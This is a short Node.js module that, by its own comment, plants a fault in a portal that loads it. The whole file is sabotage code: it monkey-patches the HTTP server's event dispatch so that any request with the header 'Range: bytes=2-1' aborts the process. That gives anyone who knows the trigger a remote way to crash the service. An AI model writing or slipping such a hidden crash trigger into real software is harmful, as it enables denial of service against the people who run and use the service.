// Plants a fault into the portal that loads this module: a request with a reversed range ends the process.
import { Server } from 'node:http'

const { emit } = Server.prototype
Server.prototype.emit = function (name, ...given) {
  if (name === 'request' && given[0].headers.range === 'bytes=2-1') process.abort()
  return emit.call(this, name, ...given)
}
